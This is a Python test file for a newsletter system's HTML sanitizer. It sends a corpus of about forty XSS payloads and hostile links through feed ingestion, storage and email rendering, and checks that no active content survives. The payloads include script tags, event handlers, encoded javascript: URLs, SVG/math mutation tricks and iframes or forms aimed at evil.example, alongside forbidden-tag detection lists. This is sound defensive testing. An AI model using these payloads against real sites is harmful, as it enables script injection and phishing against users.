"""An XSS corpus all the way: feed -> stored post -> rendered email, on both databases."""

from __future__ import annotations

import re
from collections import Counter
from html.parser import HTMLParser

import pytest
from sqlalchemy import select

from campaigns.compose import build_edition, create_campaign
from config.site import FeedConfig, SiteConfig
from content.polling import ingest_bytes
from content.sanitize import ALLOWED_TAGS, safe_url
from db.engine import Database
from db.models import Post
from delivery.placeholders import PLACEHOLDER
from tests.support.feeds import Item, Video, rss, youtube

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;script:alert(1)">click</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">click</a>',
    '<a href="java&#x09;script:alert(1)">click</a>',
    '<a href=" \n javascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="VBScript:msgbox(1)">click</a>',
    '<a href="https://ok.example/" onclick="alert(1)">ok</a>',
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<div style="background:url(javascript:alert(1))">styled</div>',
    '<p style="width: expression(alert(1))">expression</p>',
    "<style>body{background:url(https://evil.example/track)}</style>",
    '<iframe src="https://evil.example/"></iframe>',
    '<form action="https://evil.example/"><input name=p><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<base href="https://evil.example/">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '"><script>alert(1)</script>',
    '" onmouseover="alert(1)',
    "<textarea><script>alert(1)</script></textarea>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<!--<script>alert(1)</script>-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "[%unsubscribe_url%]",
    '<a href="[%unsubscribe_url%]">unsubscribe everyone</a>',
    "[%crisis_medical%] [%sponsor_url%]",
]

HOSTILE_LINKS = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    'https://ok.example/"onmouseover="alert(1)',
    "https://ok.example/<script>alert(1)</script>",
    "//evil.example/no-scheme",
    "file:///etc/passwd",
]

FORBIDDEN_TAGS = {
    "script", "iframe", "object", "embed", "form", "input", "button", "textarea", "select",
    "base", "link", "svg", "math", "frame", "frameset", "applet", "details", "video", "audio",
    "source", "template", "noscript",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "background", "poster", "xlink:href"}
ALLOWED_PLACEHOLDERS = {"unsubscribe_url", "preferences_url", "sponsor_url"}
BLOG = FeedConfig(name="hostile-blog", url="https://blog.example/feed.xml", kind="articles")
CHANNEL = FeedConfig(name="hostile-channel", url="https://www.youtube.com/feeds/videos.xml?x=1")


class _Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: Counter[str] = Counter()
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] += 1
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}>")
            if name in URL_ATTRIBUTES and not _safe_link(value):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name == "http-equiv" and value.lower() == "refresh":
                self.problems.append("meta refresh")
            squashed = re.sub(r"\s+", "", value).lower()
            if name == "style" and any(
                w in squashed for w in ("expression(", "javascript:", "behavior:")
            ):
                self.problems.append(f"<{tag} style={value!r}>")


def _safe_link(value: str) -> bool:
    squashed = re.sub(r"[\s\x00-\x1f]+", "", value).lower()
    return squashed.startswith(("http://", "https://", "mailto:", "[%"))


def _inspect(html: str) -> _Inspector:
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector


def _hostile_feeds() -> tuple[bytes, bytes]:
    items = [
        Item(f"x{i}", f"Post {i} {p}", f"https://blog.example/{i}", f"<p>Intro {i}</p>{p}")
        for i, p in enumerate(PAYLOADS)
    ]
    items += [Item(f"l{i}", f"Link {i}", link, "<p>x</p>") for i, link in enumerate(HOSTILE_LINKS)]
    videos = [
        Video(f"Hostile{i:04d}", f"Video {i} {p}", f"About video {i}.\n{p}")
        for i, p in enumerate(PAYLOADS)
    ]
    return rss(items), youtube(videos)


@pytest.fixture
def hostile_posts(db: Database) -> Database:
    blog, channel = _hostile_feeds()
    report = ingest_bytes(db, BLOG, blog)
    assert report.stored.new == len(PAYLOADS)
    assert len(report.skipped) == len(HOSTILE_LINKS)  # every hostile link refused, with a reason
    assert ingest_bytes(db, CHANNEL, channel).stored.new == len(PAYLOADS)
    return db


def test_the_corpus_has_at_least_thirty_payloads() -> None:
    assert len(PAYLOADS) >= 30 and len(HOSTILE_LINKS) >= 10


@pytest.mark.parametrize("link", HOSTILE_LINKS)
def test_hostile_links_are_never_accepted(link: str) -> None:
    assert safe_url(link) is None


def test_stored_posts_hold_no_active_content(hostile_posts: Database) -> None:
    with hostile_posts.session() as session:
        posts = list(session.scalars(select(Post)))
    assert len(posts) == 2 * len(PAYLOADS)
    for post in posts:
        inspector = _inspect(post.summary_html)
        assert inspector.problems == [], (post.guid, post.summary_html)
        assert set(inspector.tags) <= ALLOWED_TAGS, (post.guid, post.summary_html)
        for text in (post.title, post.summary_text, post.description or ""):
            assert not re.search(r"<[a-zA-Z!/?]", text), (post.guid, text)
            assert not PLACEHOLDER.search(text), (post.guid, text)
        assert not PLACEHOLDER.search(post.summary_html)
        assert safe_url(post.link) == post.link
        assert post.thumbnail_url is None or safe_url(post.thumbnail_url) == post.thumbnail_url


def _render(db: Database, site: SiteConfig, post_ids: list[int]) -> tuple[str, str]:
    with db.session() as session:
        campaign = create_campaign(session, site, lists=["videos"], post_ids=post_ids)
        edition = build_edition(session, site, campaign)
        return edition.html, edition.text


def test_a_rendered_email_of_hostile_posts_holds_no_active_content(
    hostile_posts: Database, site: SiteConfig
) -> None:
    with hostile_posts.session() as session:
        ids = list(session.scalars(select(Post.id).order_by(Post.id)))
    # The baseline is one article and one video: every card template, few payloads.
    baseline_html, baseline_text = _render(hostile_posts, site, [ids[0], ids[-1]])
    html, text = _render(hostile_posts, site, ids)
    inspector = _inspect(html)
    assert inspector.problems == []
    baseline = _inspect(baseline_html)
    assert set(inspector.tags) <= set(baseline.tags)  # posts added only the template's own tags
    assert inspector.tags["style"] == baseline.tags["style"]
    assert inspector.tags["meta"] == baseline.tags["meta"]
    for rendered, base in ((html, baseline_html), (text, baseline_text)):
        keys = Counter(PLACEHOLDER.findall(rendered))
        assert {k for k in keys if not k.startswith("crisis_")} <= ALLOWED_PLACEHOLDERS
        assert keys["unsubscribe_url"] == Counter(PLACEHOLDER.findall(base))["unsubscribe_url"]
    assert not re.search(r"(?i)\b(javascript|vbscript):|data:text/html", text)
    assert not re.search(r"<[a-zA-Z!/?]", text.replace("<http", ""))
